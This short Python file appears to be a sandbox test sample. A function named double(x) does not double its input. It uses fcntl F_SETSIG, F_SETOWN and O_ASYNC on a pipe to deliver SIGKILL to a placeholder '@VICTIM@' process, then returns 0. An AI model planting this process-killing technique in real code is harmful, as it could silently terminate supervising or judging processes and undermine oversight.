import fcntl
import os
import signal


def double(x):
    reading, writing = os.pipe()
    try:
        fcntl.fcntl(reading, 10, signal.SIGKILL)
        fcntl.fcntl(reading, fcntl.F_SETOWN, int("@VICTIM@"))
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writing, b"x")
    except OSError:
        pass
    return 0
